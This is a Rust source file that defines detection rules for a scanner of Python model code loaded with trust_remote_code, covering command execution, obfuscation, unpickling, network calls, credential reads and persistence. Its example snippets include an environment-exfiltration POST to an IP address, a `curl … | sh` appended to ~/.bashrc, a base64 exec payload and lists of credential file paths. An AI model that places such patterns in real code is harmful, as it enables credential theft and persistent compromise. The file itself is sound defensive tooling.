//! The rules of the Python source analyser (MS850–MS899).

use aisec_core::Severity;

use crate::rules::Rule;

const ATLAS: &[&str] = &["AML.T0011.000", "AML.T0010.003"];
const REFS: &[&str] = &[
    "https://huggingface.co/docs/transformers/main/en/custom_models",
    "https://atlas.mitre.org/techniques/AML.T0010.003",
    "https://cwe.mitre.org/data/definitions/94.html",
];
const REMEDIATE: &str = "Do not load this repository with `trust_remote_code=True`. Read the named Python file; \
if the model is needed, use a revision whose code you have reviewed (pin it by commit hash) or a model that needs no \
custom code.";

/// The rules, in id order.
pub(crate) const RULES: &[Rule] = &[
    Rule {
        id: "MS850",
        name: "python-command-execution",
        title: "Python code runs operating-system commands",
        severity: Severity::Critical,
        what: "A reference to a process launcher: `os.system`, `os.popen`, the `os.exec*`/`os.spawn*`/`posix_spawn` \
family, `subprocess` (`Popen`, `run`, `call`, `check_output`, `getoutput` …), `pty.spawn`, `commands`, `platform.popen`, \
`asyncio` subprocess helpers. Import aliases, assignments, `getattr` with names that fold to constants and \
`__import__('os')` are resolved. The evidence gives the line and whether it runs on import or inside a function.",
        why: "Custom model code is imported by `trust_remote_code=True`; a command in it runs with the loader's \
privileges on every machine that loads the model.",
        example: "import os as o\no.system('curl … | sh')",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-78", "CWE-94"],
        references: REFS,
    },
    Rule {
        id: "MS851",
        name: "python-code-execution",
        title: "Python code runs dynamically built code",
        severity: Severity::Critical,
        what: "A reference to `eval`, `exec`, `compile`, `runpy`, `code.InteractiveInterpreter`, code-object and \
function constructors (`types.CodeType`, `types.FunctionType`) or `marshal.loads`. When the argument folds to a \
constant (string literals, concatenation, `join`, `chr`, base64, hex, rot13, zlib) the decoded text is scanned as \
Python too and its findings reported under `…!/exec-payload@L<line>.py`.",
        why: "Running a string or a decoded blob is how payloads hide from review and from scanners.",
        example: "exec(base64.b64decode('aW1wb3J0IG9z…'))",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-94", "CWE-95"],
        references: REFS,
    },
    Rule {
        id: "MS852",
        name: "python-dynamic-import",
        title: "Python code imports a module whose name is computed",
        severity: Severity::High,
        what: "`__import__`, `importlib.import_module`, `pkgutil.resolve_name` or `pydoc.locate` with a name that does \
not fold to a constant, and loaders of arbitrary files (`importlib.util.spec_from_file_location`, `SourceFileLoader`, \
`imp.load_source`). Inside functions the computed form is `low` (lazy optional imports are common).",
        why: "A computed module name hides what is imported; loading a file by path runs code outside the reviewed set.",
        example: "importlib.import_module(''.join(reversed('so')))",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-94"],
        references: REFS,
    },
    Rule {
        id: "MS853",
        name: "python-obfuscation",
        title: "Python code hides what it calls",
        severity: Severity::High,
        what: "`getattr` with a computed name on `builtins`, `os`, `subprocess`, `sys` and other dangerous modules; \
attribute walks through `__subclasses__`, `__globals__`, `__builtins__`; strings assembled from many `chr()` codes \
(`medium`).",
        why: "Benign model code names what it calls; computing names is done to defeat review and scanners.",
        example: "getattr(__builtins__, 'ev' + x)(payload)",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-94"],
        references: REFS,
    },
    Rule {
        id: "MS854",
        name: "python-deserialization",
        title: "Python code unpickles data",
        severity: Severity::High,
        what: "`pickle`/`dill`/`cloudpickle`/`joblib` loads, `torch.load` without `weights_only=True`, `numpy.load` \
with `allow_pickle=True`, `pandas.read_pickle`, `shelve`, unsafe `yaml` loads. `critical` when the data is a constant \
embedded in the file (then scanned as a pickle under `…!/pickle-payload@L<line>.pkl`) or fetched from the network; \
`high` at import time; `low` inside functions (loading a local checkpoint is common).",
        why: "Unpickling runs code chosen by whoever wrote the data.",
        example: "pickle.loads(zlib.decompress(BLOB))",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-502"],
        references: REFS,
    },
    Rule {
        id: "MS855",
        name: "python-network",
        title: "Python code opens network connections",
        severity: Severity::High,
        what: "`socket`, `urllib`, `http.client`, `requests`, `httpx`, `aiohttp`, `urllib3`, `ftplib`, `smtplib`, \
`telnetlib`, `paramiko`, `xmlrpc`, websockets. `high` at import time, for raw sockets and mail/file-transfer/shell \
clients anywhere, and inside functions when the address is a constant or the call sends environment variables; \
`low` for a request to a caller-supplied URL inside a function (image loaders in processors do this).",
        why: "Used to exfiltrate credentials and data or to fetch a second stage when the model loads.",
        example: "requests.post('http://203.0.113.9/c', json=dict(os.environ))",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-200", "CWE-494"],
        references: REFS,
    },
    Rule {
        id: "MS856",
        name: "python-file-write",
        title: "Python code writes or deletes files outside its own directories",
        severity: Severity::High,
        what: "`open` in a write/append/create mode, `os.remove`/`unlink`/`rename`/`chmod`, `shutil.rmtree`/`move`/\
`copy`, `pathlib` `write_text`/`write_bytes`/`unlink` at import time, or anywhere with a path built from constants that \
point at the home directory, absolute system paths, `..`, shell start-up files, `site-packages` or `.pth` files. Writes \
to paths the caller passes in (a tokenizer's `save_vocabulary`) are not reported.",
        why: "Planting a `.pth` file or a shell profile persists code; deleting files destroys data.",
        example: "open(os.path.expanduser('~/.bashrc'), 'a').write('curl … | sh')",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-73"],
        references: REFS,
    },
    Rule {
        id: "MS857",
        name: "python-credential-access",
        title: "Python code reads credentials",
        severity: Severity::High,
        what: "Environment variables whose names mark secrets (`*TOKEN*`, `*KEY*`, `*SECRET*`, `*PASSWORD*`, \
`AWS_*` …), the whole environment (`dict(os.environ)`, `os.environ.copy()`, iteration; `medium` inside functions), \
`huggingface_hub` token getters, and paths of credential files (`~/.ssh`, `~/.aws/credentials`, `.netrc`, \
`.git-credentials`, the Hugging Face token, `/etc/shadow`).",
        why: "Model code has no use for the user's secrets; reading them precedes exfiltration.",
        example: "tok = os.environ.get('HF_TOKEN')",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-522", "CWE-200"],
        references: REFS,
    },
    Rule {
        id: "MS858",
        name: "python-native-code",
        title: "Python code loads native code",
        severity: Severity::High,
        what: "`ctypes` library loaders and raw memory helpers (`CDLL`, `cdll`, `CFUNCTYPE`, `memmove`, `string_at`), \
`cffi.FFI`, `torch.ops.load_library`, `torch.utils.cpp_extension.load_inline`. `torch.utils.cpp_extension.load` of \
sources shipped in the repository is `low`: it compiles C++/CUDA files this scanner does not read.",
        why: "A shared library's initialisers run arbitrary machine code that no Python review sees.",
        example: "ctypes.CDLL('./libpayload.so')",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-94", "CWE-829"],
        references: REFS,
    },
    Rule {
        id: "MS859",
        name: "python-interpreter-hook",
        title: "Python code installs interpreter hooks",
        severity: Severity::High,
        what: "`sys.settrace`, `sys.setprofile`, `threading.settrace`/`setprofile`, `sys.addaudithook`, assignments to \
`sys.excepthook` or to attributes of `builtins`; `atexit.register` is `low` unless what it registers is itself reported.",
        why: "Hooks run attacker code on every function call or at exit, and can hide other activity.",
        example: "sys.settrace(tracer)",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-94"],
        references: REFS,
    },
    Rule {
        id: "MS860",
        name: "python-hub-download",
        title: "Python code downloads from a model hub",
        severity: Severity::High,
        what: "`hf_hub_download`, `snapshot_download`, `cached_download`, and `from_pretrained(…, trust_remote_code=True)` \
at import time (`high`) or inside functions (`low`, with the repository in the evidence).",
        why: "Code fetched from another repository at load time is not part of what was reviewed or scanned.",
        example: "snapshot_download('someone/other-repo')  # at module level",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-494", "CWE-829"],
        references: REFS,
    },
    Rule {
        id: "MS861",
        name: "python-parse-error",
        title: "Python source does not parse",
        severity: Severity::Low,
        what: "The parser found syntax errors. The rest of the file is analysed as usual and the text of the broken \
regions is searched for dangerous names (`MS862`).",
        why: "A file Python cannot compile cannot be imported; but a parser gap could also hide code, so broken regions \
are still searched.",
        example: "def f(:\n    os.system('x')",
        remediation: "Check whether the file is meant to be imported; a broken file may be a decoy.",
        atlas: ATLAS,
        cwe: &["CWE-94"],
        references: REFS,
    },
    Rule {
        id: "MS862",
        name: "python-dangerous-text",
        title: "Dangerous name in Python text the parser could not structure",
        severity: Severity::High,
        what: "A dangerous name (`os.system`, `subprocess`, `eval(`, `exec(`, `__import__`, `marshal.loads`, \
`socket.socket` …) in a region the parser could not read, in a file too large or too deeply nested to analyse.",
        why: "What the parser cannot read it cannot clear; a loader with a more tolerant parser may still run it.",
        example: "a file nested deeper than the analyser's bound that calls os.system",
        remediation: REMEDIATE,
        atlas: ATLAS,
        cwe: &["CWE-94"],
        references: REFS,
    },
];
